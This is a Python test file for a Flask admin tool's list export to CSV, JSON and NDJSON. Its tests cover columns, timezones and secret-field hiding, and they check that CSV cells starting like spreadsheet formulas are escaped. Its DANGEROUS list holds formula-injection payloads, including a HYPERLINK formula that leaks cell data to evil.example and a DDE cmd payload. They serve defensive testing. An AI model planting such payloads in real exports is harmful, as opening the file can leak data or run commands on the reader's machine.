"""A list as a file: what is in it, who may have it, and what the history tells of it."""

import json
import re
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from flask import Flask

from tests.admin.exports import as_rows, entries, taken
from tests.admin.kinds import KindAdmin, Mood
from tests.admin.kinds import keep as keep_kind
from tests.admin.samples import ComputedPartAdmin, Part, PartAdmin
from tests.library import world
from tests.library.books import Book, Tag
from tests.pages import Visitor

# What is in it


def test_a_csv_file_holds_the_columns_of_the_list_by_name_and_its_values_as_addresses_write_them(
    keeper: Visitor,
) -> None:
    head, *rows = as_rows(taken(keeper, "/parts/export/?format=csv"))
    assert head == list(PartAdmin.list_display)
    bolt, nut, acai = (dict(zip(head, row, strict=True)) for row in rows)
    assert (bolt["name"], bolt["size"], bolt["weight"], bolt["colour"]) == ("Bolt", "", "1.500", "RED")
    assert (nut["count"], nut["made_at"], nut["day"]) == ("1024", "2026-03-01T23:30:15+00:00", "2026-03-02")
    assert (acai["name"], acai["ratio"], acai["is_good"], acai["stage"]) == ("Açaí", "0.1", "true", "1")
    assert (acai["note"], acai["code"], bolt["is_good"]) == ("two\nlines", "c", "")


def test_each_line_ends_as_rfc_4180_says_and_excel_sees_that_it_is_utf_8(keeper: Visitor) -> None:
    body = keeper.client.get("/shelves/export/", buffered=True).data
    assert body == b"\xef\xbb\xbflabel,room,number\r\n"


def test_json_is_one_array_and_ndjson_an_object_a_line(keeper: Visitor) -> None:
    array = json.loads(taken(keeper, "/parts/export/?format=json&sort=code"))
    lines = taken(keeper, "/parts/export/?format=ndjson&sort=code").splitlines()
    assert array == [json.loads(line) for line in lines]
    nut, bolt, acai = array
    assert list(nut) == list(PartAdmin.list_display)
    assert (nut["count"], nut["size"], nut["made_at"]) == (1024, 7, "2026-03-01T23:30:15+00:00")
    assert (bolt["weight"], bolt["colour"], bolt["size"], bolt["is_good"]) == ("1.500", "RED", None, None)
    assert (acai["name"], acai["ratio"], acai["is_good"]) == ("Açaí", 0.1, True)


def test_an_empty_list_is_a_file_as_well(sample_app: Flask, as_sample_alice: Visitor) -> None:
    assert json.loads(taken(as_sample_alice, "/parts/export/?format=json")) == []
    assert taken(as_sample_alice, "/parts/export/?format=ndjson") == ""
    assert len(as_rows(taken(as_sample_alice, "/parts/export/?format=csv"))) == 1


def test_search_filters_and_sort_of_the_address_count_and_pages_do_not(keeper: Visitor) -> None:
    def names(query: str) -> list[str]:
        return [row[0] for row in as_rows(taken(keeper, f"/parts/export/?format=csv&{query}"))[1:]]

    assert names("") == ["Bolt", "Nut", "Açaí"]
    assert names("sort=-code") == ["Açaí", "Bolt", "Nut"]
    assert names("sort=size") == ["Nut", "Bolt", "Açaí"]
    assert names("q=nut") == ["Nut"]
    assert names("count__gte=3&sort=-count&size=25") == ["Nut", "Bolt"]
    assert names("last=1&size=25") == ["Bolt", "Nut", "Açaí"]


def test_what_methods_compute_is_in_it_too(keeper: Visitor) -> None:
    rows = json.loads(taken(keeper, "/computed/export/?format=json"))
    assert list(rows[0]) == list(ComputedPartAdmin.list_display)
    assert [(row["name"], row["shout"], row["length"], row["size"]) for row in rows] == [
        ("Nut", "NUT", 3, 7),
        ("Açaí", "AÇAÍ", 4, None),
        ("Bolt", "BOLT", 4, None),
    ]


def test_objects_are_read_batch_by_batch_and_each_once(
    parts: Flask, keeper: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("webapp.admin.transfer.reading.BATCH", 2)
    world.keep(
        parts, *(Part(id=number, name=f"p{number}", size=number % 2 or None) for number in range(4, 10))
    )
    rows = json.loads(taken(keeper, "/computed/export/?format=json"))
    assert sorted(row["name"] for row in rows) == sorted(
        ["Bolt", "Nut", "Açaí", *(f"p{n}" for n in range(4, 10))]
    )
    assert entries(parts)[-1][2]["rows"] == 9


def test_relations_are_told_by_the_texts_of_all_that_they_lead_to(
    library_app: Flask, as_library_alice: Visitor
) -> None:
    book = world.sample_row(Book, 1)
    book.translator = None
    book.tags = [Tag(name=f"tag {number}") for number in range(1, 8)]
    world.keep(library_app, book)
    (row,) = json.loads(taken(as_library_alice, "/books/export/?format=json"))
    assert (row["author"], row["translator"]) == ("Author 001", None)
    assert row["tags"] == [f"tag {number}" for number in range(1, 8)]
    assert (row["binding"], row["stage"], row["is_thick"]) == ("PAPERBACK", 1, False)
    head, line = as_rows(taken(as_library_alice, "/books/export/"))
    assert line[head.index("tags")].split("; ") == row["tags"]


def test_of_what_a_list_shows_by_its_size_the_size_is_taken_away(
    kind_app: Flask, kind_visitor: Visitor
) -> None:
    keep_kind(
        kind_app, content=b"\xff\x00abc", ratio=-0.5, document={"a": [1, None]}, mood=Mood.BAD, point=1 + 2j
    )
    (row,) = json.loads(taken(kind_visitor, "/kinds/export/?format=json"))
    assert (row["content"], row["ratio"], row["document"], row["point"]) == (
        5,
        -0.5,
        {"a": [1, None]},
        "(1+2j)",
    )
    head, line = as_rows(taken(kind_visitor, "/kinds/export/"))
    assert (line[head.index("content")], line[head.index("ratio")]) == ("5", "-0.5")
    assert json.loads(line[head.index("document")]) == {"a": [1, None]}


def test_every_moment_is_in_utc_and_says_so(
    kind_app: Flask, kind_visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A list shows all of them where the reader is; without its zone a program would take one for a time of its own."""
    moment = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
    keep_kind(kind_app, at=moment, naive_at=moment.replace(tzinfo=None), zoned_at=moment)
    monkeypatch.setattr(KindAdmin, "list_display", ("id", "at", "naive_at", "zoned_at"))
    said = "2026-03-01T23:30:00+00:00"
    assert as_rows(taken(kind_visitor, "/kinds/export/"))[1] == ["1", said, said, said]
    [row] = json.loads(taken(kind_visitor, "/kinds/export/?format=json"))
    assert row == {"id": 1, "at": said, "naive_at": said, "zoned_at": said}


def test_what_is_secret_stays_also_where_a_hook_lists_it(
    parts: Flask, keeper: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """AZ-11."""
    monkeypatch.setattr(PartAdmin, "get_list_display", lambda self, user: ("name", "token"))
    for form in ("csv", "json", "ndjson"):
        text = taken(keeper, f"/parts/export/?format={form}")
        assert "Bolt" in text
        assert "canary" not in text
        assert "token" not in text


# Formulas


DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    "''@x",
)
HARMLESS = ("-5", "-5.25", "plain", "1+1=2", "a=b", "'tis", "5-3", "x@example.org", " ", "")


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_begins_like_a_formula_is_given_an_apostrophe_in_csv_only(
    sample_app: Flask, as_sample_alice: Visitor, text: str
) -> None:
    world.keep(sample_app, Part(id=1, name=text))
    assert as_rows(taken(as_sample_alice, "/parts/export/"))[1][0] == f"'{text}"
    assert as_rows(taken(as_sample_alice, "/computed/export/"))[1][1] == f"'{text.upper()}"
    for form in ("json", "ndjson"):
        found = json.loads(taken(as_sample_alice, f"/parts/export/?format={form}"))
        assert (found[0] if form == "json" else found)["name"] == text


def test_other_text_and_numbers_stay_as_they_are(sample_app: Flask, as_sample_alice: Visitor) -> None:
    rows = [Part(id=number, name=text, count=-3) for number, text in enumerate(HARMLESS, 1)]
    world.keep(sample_app, *rows, Part(id=99, name="n", weight=Decimal("-1.5"), ratio=-2.5))
    found = as_rows(taken(as_sample_alice, "/parts/export/"))[1:]
    assert [row[0] for row in found[:-1]] == list(HARMLESS)
    assert {row[2] for row in found[:-1]} == {"-3"}
    assert found[-1][6:8] == ["-1.500", "-2.5"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("x;=1+1;y", "x;'=1+1;y"),
        ("a; @SUM(1)", "a; '@SUM(1)"),
        ("a;'-1", "a;''-1"),
        ("=1;+1", "'=1;'+1"),
        ("a; b;c=1", "a; b;c=1"),
    ],
)
def test_what_goes_on_like_a_formula_where_a_semicolon_ends_a_cell_is_given_one_too(
    sample_app: Flask, as_sample_alice: Visitor, text: str, cell: str
) -> None:
    world.keep(sample_app, Part(id=1, name=text))
    assert as_rows(taken(as_sample_alice, "/parts/export/"))[1][0] == cell
    assert json.loads(taken(as_sample_alice, "/parts/export/?format=json"))[0]["name"] == text


def test_one_apostrophe_less_gives_every_text_back(sample_app: Flask, as_sample_alice: Visitor) -> None:
    texts = [*DANGEROUS, *HARMLESS]
    world.keep(sample_app, *(Part(id=number, name=text) for number, text in enumerate(texts, 1)))
    found = [row[0] for row in as_rows(taken(as_sample_alice, "/parts/export/"))[1:]]
    guard = re.compile("'('*[=+\\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20])")
    assert [text[1:] if guard.match(text) else text for text in found] == texts
